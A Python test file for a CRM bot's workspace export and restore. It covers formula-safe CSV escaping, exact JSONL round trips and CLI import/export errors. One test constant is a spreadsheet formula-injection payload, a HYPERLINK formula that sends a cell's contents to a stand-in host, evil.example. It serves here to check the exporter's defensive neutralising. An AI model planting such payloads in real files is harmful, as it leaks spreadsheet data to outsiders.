"""`crm-bot export` and restoring an export: every table, formula-safe CSV, exact round trip."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from crm import customers as svc
from crm import exporter
from crm.actors import Actor
from crm.exporter import ExportError, export_workspace, restore_workspace
from crm.models import (
    Activity,
    Contact,
    Customer,
    Deal,
    DealStageChange,
    DigestSubscription,
    FollowUp,
    Workspace,
)
from tests.support.processes import run

ADMIN, REP = "U0ADMIN", "U0REP"
CRM_BOT = str(Path(sys.executable).parent / "crm-bot")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("+14155550100", "+14155550100"),  # a phone number can't call anything
        ("+1 (415) 555-0100", "+1 (415) 555-0100"),
        ("-12.50", "-12.50"),
        ("Acme = good", "Acme = good"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert exporter.neutralise(value) == expected


def build_workspace(services, team: str) -> int:
    """A workspace with a bit of everything: merges, aliases, deals with history, follow-ups, digests."""
    sf, search = services.session_factory, services.search
    ws = services.workspace_id(team)
    acme = svc.create_customer(
        sf,
        search,
        ws,
        actor=REP,
        name="Acme Corporation",
        website="acme.com",
        contact=svc.ContactInput(name="Jane Doe", email="jane@acme.com", phone="+1 415 555 0100", title="CTO"),
    )
    svc.create_customer(sf, search, ws, actor=REP, name=EVIL)
    initech = svc.create_customer(sf, search, ws, actor=REP, name="Initech")
    initek = svc.create_customer(sf, search, ws, actor=REP, name="Initek Software", force=True)
    svc.add_contact(sf, search, ws, initek.id, svc.ContactInput(name="Peter Gibbons"), actor=REP)
    svc.merge_customers(sf, search, ws, initek.id, initech.id, actor=Actor(ADMIN, is_admin=True))
    svc.update_customer(
        sf, search, ws, acme.id, actor=REP, name="Acme Corporation", website="acme.io", owner_user_id=ADMIN
    )
    now = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
    with sf.begin() as s:
        jane = s.scalars(select(Contact).where(Contact.email == "jane@acme.com")).one()
        deal = Deal(
            workspace_id=ws,
            customer_id=acme.id,
            title="Renewal 2024",
            amount_minor=1250050,
            currency="EUR",
            stage="proposal",
            expected_close=date(2024, 6, 30),
            owner_user_id=REP,
            created_by=REP,
            created_at=now,
        )
        s.add(deal)
        s.flush()
        s.add_all(
            [
                DealStageChange(
                    workspace_id=ws, deal_id=deal.id, from_stage=None, to_stage="qualified", created_at=now
                ),
                DealStageChange(workspace_id=ws, deal_id=deal.id, from_stage="qualified", to_stage="proposal"),
            ]
        )
        call = Activity(
            workspace_id=ws,
            customer_id=acme.id,
            contact_id=jane.id,
            deal_id=deal.id,
            type_key="call",
            summary="Called Jane\nabout =SUM(1) pricing ✓",
            occurred_at=now - timedelta(days=1),
            source="modal",
            idempotency_key="view:V123",
            created_by=REP,
        )
        gone = Activity(
            workspace_id=ws,
            customer_id=initech.id,
            type_key="note",
            summary="deleted",
            occurred_at=now,
            deleted_at=now,
            deleted_by=ADMIN,
        )
        s.add_all([call, gone])
        s.flush()
        s.add(
            FollowUp(
                workspace_id=ws,
                customer_id=acme.id,
                activity_id=call.id,
                deal_id=deal.id,
                owner_user_id=REP,
                due_at=now + timedelta(days=3),
                nudge_at=now + timedelta(days=3),
                note="Send the quote",
            )
        )
        s.add(
            DigestSubscription(
                workspace_id=ws,
                channel_id="C0SALES",
                local_time="08:30",
                timezone="Europe/Berlin",
                subscriber_user_id=ADMIN,
                last_snapshot={"open_deals": 1, "names": ["Acme"]},
            )
        )
    return ws


def canonical(directory: Path) -> dict[str, list[dict]]:
    """The export with every id replaced by its row's position, so two databases compare equal."""
    tables = {
        name: [json.loads(line) for line in (directory / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]
        for name, _ in exporter.TABLES
    }
    rank = {name: {row["id"]: i for i, row in enumerate(rows)} for name, rows in tables.items()}
    refs = {**exporter.SNAPSHOT_REFS}
    for name, rows in tables.items():
        for row in rows:
            row["id"] = rank[name][row["id"]]
            row.pop("index_version", None)
            for column, target in refs.items():
                if row.get(column) is not None and column in row:
                    row[column] = rank[target][row[column]]
            if row.get("merged_into_id") is not None:
                row["merged_into_id"] = rank[name][row["merged_into_id"]]
            if name == "audit_log":
                entity = exporter.AUDIT_ENTITIES.get(row["entity_type"])
                if entity:
                    row["entity_id"] = rank[entity][row["entity_id"]]
                for key in ("before", "after"):
                    snap = row.get(key) or {}
                    for column, value in snap.items():
                        target = refs.get(column) or (entity if column == "merged_into_id" else None)
                        if target and isinstance(value, int):
                            snap[column] = rank[target][value]
    return tables


def test_export_writes_every_table_as_csv_and_jsonl(services, tmp_path):
    ws = build_workspace(services, "T0TEST")
    services.workspace_id("T0OTHER")
    report = export_workspace(services.session_factory, ws, tmp_path / "out")
    out = tmp_path / "out"
    assert report.counts["customers"] == 4 and report.counts["deal_stage_changes"] == 2
    assert report.counts["activities"] == 2 and report.counts["follow_ups"] == 1
    assert report.counts["digest_subscriptions"] == 1 and report.counts["customer_aliases"] == 1
    assert report.counts["audit_log"] >= 8
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["format"] == "crm-export" and manifest["team_id"] == "T0TEST"
    assert {n: t["rows"] for n, t in manifest["tables"].items()} == report.counts
    for name, _ in exporter.TABLES:
        assert (out / f"{name}.csv").exists() and (out / f"{name}.jsonl").exists()
    assert not list(out.glob("*.part"))
    with (out / "customers.csv").open(encoding="utf-8-sig", newline="") as fh:
        customers = list(csv.DictReader(fh))
    assert "'" + EVIL in [c["name"] for c in customers]  # a formula in a spreadsheet cell is text
    assert "workspace_id" not in customers[0]
    assert EVIL in (out / "customers.jsonl").read_text(encoding="utf-8").replace('\\"', '"')
    with (out / "contacts.csv").open(encoding="utf-8-sig", newline="") as fh:
        [jane] = [c for c in csv.DictReader(fh) if c["email"] == "jane@acme.com"]
    assert jane["phone"] == "+14155550100"
    activity = json.loads((out / "activities.jsonl").read_text().splitlines()[0])
    assert activity["summary"] == "Called Jane\nabout =SUM(1) pricing ✓"  # JSON Lines are exact
    assert activity["occurred_at"] == "2024-04-30T12:00:00+00:00"
    digest = json.loads((out / "digest_subscriptions.jsonl").read_text())
    assert digest["last_snapshot"] == {"open_deals": 1, "names": ["Acme"]}


def test_restore_into_an_empty_workspace_gives_the_same_data_back(services, tmp_path):
    ws = build_workspace(services, "T0TEST")
    export_workspace(services.session_factory, ws, tmp_path / "one")
    copy = services.workspace_id("T0COPY")
    report = restore_workspace(services.session_factory, copy, tmp_path / "one")
    assert report.counts["customers"] == 4
    export_workspace(services.session_factory, copy, tmp_path / "two")
    assert canonical(tmp_path / "two") == canonical(tmp_path / "one")
    with services.session_factory() as s:
        version = s.scalar(select(Workspace.search_version).where(Workspace.id == copy))
        assert set(s.scalars(select(Customer.index_version).where(Customer.workspace_id == copy))) == {version}
    # The restored copy works: merges still resolve, and search finds the former name.
    found = svc.find_customers(services.session_factory, services.search, copy, "initek software")
    assert found.winner is not None and found.winner.name == "Initech"


def test_restore_refuses_a_workspace_with_data_and_a_damaged_export(services, tmp_path):
    ws = build_workspace(services, "T0TEST")
    export_workspace(services.session_factory, ws, tmp_path / "out")
    with pytest.raises(ExportError, match="already has data"):
        restore_workspace(services.session_factory, ws, tmp_path / "out")
    lines = (tmp_path / "out" / "activities.jsonl").read_text().splitlines()
    (tmp_path / "out" / "activities.jsonl").write_text(lines[0] + "\n")
    copy = services.workspace_id("T0COPY")
    with pytest.raises(ExportError, match="has 1 rows but the manifest says 2"):
        restore_workspace(services.session_factory, copy, tmp_path / "out")
    with services.session_factory() as s:  # all or nothing
        assert s.scalar(select(func.count()).select_from(Customer).where(Customer.workspace_id == copy)) == 0
    (tmp_path / "out" / "activities.jsonl").write_text("{not json\n")
    with pytest.raises(ExportError, match="line 1 is not valid JSON"):
        restore_workspace(services.session_factory, copy, tmp_path / "out")


def crm_bot(database_url: str, *args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_URL", "CRM_"))}
    env["DATABASE_URL"] = database_url
    return run([CRM_BOT, *args], cwd=cwd, env=env, timeout=120)


def test_cli_export_then_import_into_an_empty_database(services, database_url, tmp_path):
    build_workspace(services, "T0TEST")
    exported = crm_bot(database_url, "export", "--team", "T0TEST", "--out", "dump", cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    assert "Exported" in exported.stdout and "customers: 4" in exported.stdout
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    restored = crm_bot(fresh, "import", "dump", "--team", "T0NEW", cwd=tmp_path)
    assert restored.returncode == 0, restored.stderr
    assert "customers: 4" in restored.stdout
    again = crm_bot(fresh, "export", "--team", "T0NEW", "--out", "dump2", cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert canonical(tmp_path / "dump2") == canonical(tmp_path / "dump")
    twice = crm_bot(fresh, "import", "dump", "--team", "T0NEW", cwd=tmp_path)
    assert twice.returncode == 1 and "already has data" in twice.stderr and "Traceback" not in twice.stderr
    unknown = crm_bot(fresh, "export", "--team", "T0NOPE", "--out", "x", cwd=tmp_path)
    assert unknown.returncode == 1 and "no workspace with team id T0NOPE" in unknown.stderr
